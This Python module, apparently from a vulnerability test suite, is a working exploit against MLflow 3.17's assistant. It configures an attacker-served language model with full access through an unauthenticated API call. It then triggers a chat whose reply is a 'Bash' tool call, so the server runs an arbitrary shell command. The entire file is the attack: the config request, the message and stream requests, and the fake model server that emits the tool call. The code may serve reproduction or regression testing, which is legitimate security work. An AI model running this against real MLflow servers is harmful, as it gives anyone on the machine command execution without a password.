"""The attack on MLflow 3.17's assistant: any process of the machine makes the server run a command, without a password.

The attacker serves a language model of its own, names it in the assistant's configuration with full access, and sends a message. The model's
answer is a call of the tool "Bash", which the server executes.
"""

import json
import threading
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

DIRECT = urllib.request.build_opener(urllib.request.ProxyHandler({}))
"""urlopen keeps the proxy that the environment named when it was first called, which may have been another test's."""

_API = "/ajax-api/3.0/mlflow/assistant"


def attack(address: str, command: str) -> list[int]:
    """Try to run a shell command through an MLflow server and return the status of each request."""
    with _model(command) as model:
        thread = threading.Thread(target=model.serve_forever, daemon=True)
        thread.start()
        provider = {"model": "m", "base_url": f"http://127.0.0.1:{model.server_port}", "permissions": {"full_access": True}, "selected": True}
        configured, _ = send(address, "PUT", f"{_API}/config", {"providers": {"ollama": provider}})
        asked, answer = send(address, "POST", f"{_API}/message", {"message": "hello"})
        session = json.loads(answer)["session_id"] if asked == 200 else "0"
        streamed, _ = send(address, "GET", f"{_API}/sessions/{session}/stream")
        model.shutdown()
        thread.join()
    return [configured, asked, streamed]


def send(address: str, method: str, path: str, content: object = None, **headers: str) -> tuple[int, str]:
    """Send a request with JSON and return its status and text."""
    body = None if content is None else content if isinstance(content, bytes) else json.dumps(content).encode()
    asked = urllib.request.Request(address.rstrip("/") + path, body, {"Content-Type": "application/json"} | headers, method=method)
    try:
        with DIRECT.open(asked, timeout=60) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def _model(command: str) -> ThreadingHTTPServer:
    call = {"index": 0, "id": "1", "function": {"name": "Bash", "arguments": json.dumps({"command": command})}}

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            is_done = any(message["role"] == "tool" for message in asked["messages"])
            delta = {"content": "done"} if is_done else {"tool_calls": [call]}
            self.send_response(200)
            self.end_headers()
            self.wfile.write(f"data: {json.dumps({'choices': [{'delta': delta}]})}\n\ndata: [DONE]\n\n".encode())

        def log_message(self, *_: object) -> None:
            pass

    return ThreadingHTTPServer(("127.0.0.1", 0), Handler)
